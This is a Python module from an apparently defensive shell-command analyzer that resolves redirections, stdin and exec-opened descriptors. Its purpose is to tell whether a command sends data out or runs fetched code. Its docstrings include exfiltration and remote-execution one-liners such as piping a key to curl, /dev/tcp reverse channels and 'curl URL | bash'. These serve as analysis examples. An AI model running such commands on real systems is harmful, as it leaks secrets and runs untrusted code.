"""Where a simple command's redirections lead: which is its stdin, and what each descriptor holds.

A command's redirections are ``(op, target)`` pairs (``pipeline.analysis.shell.syntax_command``):
``<``, ``<>``, ``<<`` (a here-document, its target the body's placeholder), ``<<<`` (a
here-string), ``>``, ... An input redirection on a descriptor other than 0 carries it as
a prefix (``3<``, ``3<<``, ``3<<<``, ``3<>``), as an output one other than 1 does (``2>``):
what it opens is no stdin (``curl -d @- URL 3<<EOF`` sends nothing of the body; ``python3
3<<'PY'`` runs no script), though a here-document's substitutions still run. Bash applies
redirections left to right, so of several on descriptor 0 the last is stdin (``curl -T -
URL < /etc/hosts <<EOF`` uploads the body; ``<<EOF < f`` uploads ``f``), and a pipe's
data is not read when one is there (``cat key | curl -d @- URL < /dev/null`` sends nothing).

``exec`` without a command opens descriptors for the rest of the script (``exec 3<>/dev/tcp/
host/80``, ``exec 3>out.txt``); a later ``>&3`` sends a command's stdout there and ``<&3``
reads its stdin from there, so ``cat key >&3`` sends the key to the host and ``sh <&3`` runs
what the host sends (:func:`through_opened`).
"""

from __future__ import annotations

import posixpath
import re

STDIN_OPS = ("<", "<>", "<<", "<<<")
# an explicit `0` on an input operator (the reader never writes one: `0<` is `<`) marks the
# stdin redirection of a compound the grammar put around a pipeline (`cat x | while ...; done
# < f`), kept on the pipeline's last command for its effects (a read, a body's substitutions)
# and never that command's stdin (the compound's is its body's: stages.around)
COMPOUND_STDIN = "0"


def base_op(op: str) -> str:
    """The operator without its descriptor (``3<<`` -> ``<<``, ``2>`` -> ``>``)."""
    return op.lstrip("0123456789")


def _last_on_stdin(redirs: list[tuple[str, str]]) -> tuple[str, str] | None:
    """The last redirection on descriptor 0 (of redirections :func:`through_opened` resolved:
    a ``<&N`` left there is a copy of a descriptor not known here)."""
    return next((r for r in reversed(redirs) if r[0] in STDIN_OPS or r[0] == "<&"), None)


def stdin_redirect(redirs: list[tuple[str, str]]) -> tuple[str, str] | None:
    """The redirection that is the command's stdin: the last on descriptor 0, if any. A
    duplication left unresolved there (``<&3`` of what is not known here, ``< /dev/stdin``:
    the pipe's own copy) leaves stdin as it was (fail closed: the pipe is read); ``<&-``
    closes it (nothing is read)."""
    last = _last_on_stdin(redirs)
    if last is None or last[0] != "<&":
        return last
    return ("<", "/dev/null") if last[1] == "-" else None


def keeps_stdin(redirs: list[tuple[str, str]]) -> bool:
    """True when a command's stdin ends as a copy of a descriptor not known here (``<&3``
    after ``3<&0``, inside a compound that redirects its own): it may be what stdin was
    before any redirection (``cat key | { curl -d @- URL <&3; } 3<&0 < /dev/null`` sends the
    key); the caller keeps that too (fail closed)."""
    last = _last_on_stdin(redirs)
    return last is not None and last[0] == "<&" and last[1] != "-"


# a path that names a descriptor (Linux): a redirection to it duplicates that descriptor
_FD_PATH = re.compile(r"^/(?:dev/fd|proc/[^/]+/fd)/(\d+)$")
_STD_PATHS = {"/dev/stdin": "0", "/dev/stdout": "1", "/dev/stderr": "2"}


def fd_of_path(word: str) -> str | None:
    """The descriptor a path names, however spelled (``/dev/fd/3``, ``/proc/self/fd/3``,
    ``//dev/./fd/3``: 3; ``/dev/stdin``: 0)."""
    if not word.startswith("/"):
        return None
    path = posixpath.normpath("/" + word.lstrip("/"))
    return _STD_PATHS.get(path) or (m.group(1) if (m := _FD_PATH.match(path)) else None)


def names_stdin(word: str) -> bool:
    """True for a program argument that is stdin: ``-``, ``/dev/stdin``, ``/dev/fd/0``,
    ``/proc/self/fd/0`` however spelled (``curl URL | bash /dev/stdin`` runs what arrives)."""
    return word == "-" or fd_of_path(word) == "0"


def unknown_fd(word: str, fds: Opened) -> bool:
    """True for a program argument naming a descriptor other than 0 that is not known here
    (``cat /dev/fd/3`` after a ``3<&0``): it may be the stdin the text was given."""
    n = fd_of_path(word)
    return n is not None and n not in ("0", "1", "2") and n not in fds


def _as_duplication(op: str, target: str) -> tuple[str, str]:
    """``< /dev/stdin``, ``> /dev/fd/3``, ``< /proc/self/fd/0`` (also spelled ``/dev/./stdin``,
    ``//dev/stdin``) as the duplications they are: ``<&0``, ``>&3``, ``<&0``."""
    base = base_op(op)
    n = fd_of_path(target) if base in ("<", "<>", ">", ">>", ">|") else None
    if n is None:
        return op, target
    return op[:len(op) - len(base)] + ("<&" if base.startswith("<") else ">&"), n


Opened = dict[str, tuple[str, str]]
"""Descriptor -> (operator it was opened with, without the descriptor; target)."""


def _fd(op: str) -> str:
    """The descriptor an operator names (``3<`` -> ``3``), else the default: 0 for input,
    1 for output."""
    base = base_op(op)
    return op[:len(op) - len(base)] or ("0" if base.startswith("<") else "1")


def _open(fds: Opened, op: str, target: str) -> None:
    """Record what a redirection leaves on its descriptor (a duplication or closing is
    resolved before)."""
    base = base_op(op)
    if base in ("<", "<>", "<<", "<<<", ">", ">>", ">|", "&>", "&>>"):
        fds[_fd(op)] = (">" if base in (">|", "&>") else ">>" if base == "&>>" else base, target)
        if base in ("&>", "&>>"):  # stdout and stderr
            fds["2"] = fds["1"]


def through_opened(words: list[str], redirs: list[tuple[str, str]], opened: Opened,
                   inherited: Opened | None = None) -> tuple[list[tuple[str, str]], Opened]:
    """``redirs`` with each duplication (``>&3``, ``2>&3``, ``<&3``) of a descriptor opened
    before (by a bare ``exec`` earlier, ``opened``; by a compound around the command,
    ``inherited``: ``{ cat key >&3; } 3<>/dev/tcp/h/443``; or left of it on the same
    command: ``curl -d @- URL 3< key <&3``) replaced by a redirection to its target when it
    was opened for that direction: ``>&3`` -> ``> T``, ``<&3`` -> ``< T`` (or the
    here-document / here-string fd 3 holds). ``>&-`` closes one; a duplication of one not
    known (``3>&1``) makes it unknown. Bash applies them left to right. Returns the
    redirections and the descriptors as the command leaves them; a bare ``exec``
    (``words == ["exec"]``) leaves them so for the rest of the text (``opened`` updated)."""
    fds: Opened = {**opened, **inherited} if inherited else dict(opened)
    out: list[tuple[str, str]] = []
    for op, target in (_as_duplication(op, target) for op, target in redirs):
        base = base_op(op)
        if base in (">&", "<&"):
            fd, prefix = _fd(op), op[:len(op) - 2]
            was = fds.get(target) if target != "-" else None
            if was is not None and base == ">&" and was[0] in (">", ">>", "<>"):
                out.append((prefix + (">>" if was[0] == ">>" else ">"), was[1]))
            elif was is not None and base == "<&" and was[0] in ("<", "<>", "<<", "<<<"):
                out.append((prefix + ("<" if was[0] == "<>" else was[0]), was[1]))
            else:  # closed (`3>&-`), or now a copy of what is not known here (`3>&1`)
                fds.pop(fd, None)
                out.append((op, target))
                continue
            fds[fd] = was  # a copy: both ways when the original was (`exec 4<&3` of a `3<>` socket)
            continue
        out.append((op, target))
        _open(fds, op, target)
    if words == ["exec"]:
        opened.clear()
        opened.update(fds)
    return out, fds


_STDOUT_OPS = (">", ">>", ">|", "&>", "&>>", ">&")


def exec_defaults(redirs: list[tuple[str, str]], opened: Opened, first: bool, last: bool) -> list[tuple[str, str]]:
    """``redirs`` of a command after a bare ``exec`` set the text's stdin or stdout
    (``exec </dev/tcp/h/443``, ``exec >&3``): the first command of a pipeline with no stdin
    of its own reads from there (``sh`` runs what the host sends), the last with no stdout
    of its own writes there (``cat key`` sends it)."""
    if first and "0" in opened and opened["0"][0] in ("<", "<>", "<<", "<<<") and stdin_redirect(redirs) is None:
        redirs = [("<" if opened["0"][0] == "<>" else opened["0"][0], opened["0"][1]), *redirs]
    if last and "1" in opened and opened["1"][0] in (">", ">>", "<>") and not any(
            base_op(op) in _STDOUT_OPS and _fd(op) == "1" for op, _ in redirs):
        redirs = [*redirs, (">>" if opened["1"][0] == ">>" else ">", opened["1"][1])]
    return redirs
